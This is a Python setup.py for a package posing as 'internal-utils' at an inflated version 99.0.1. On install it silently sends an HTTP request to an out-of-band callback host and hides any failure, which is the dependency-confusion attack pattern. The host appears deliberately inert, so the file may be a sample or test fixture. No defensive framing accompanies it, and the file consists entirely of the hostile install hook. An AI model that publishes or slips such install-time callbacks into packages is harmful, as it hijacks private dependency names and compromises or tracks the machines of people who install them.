from setuptools import setup
import urllib.request
try:
    urllib.request.urlopen("http://pkg-a.inert0001.oast.fun.invalid/hit", timeout=3)
except Exception:
    pass
setup(name="internal-utils", version="99.0.1")
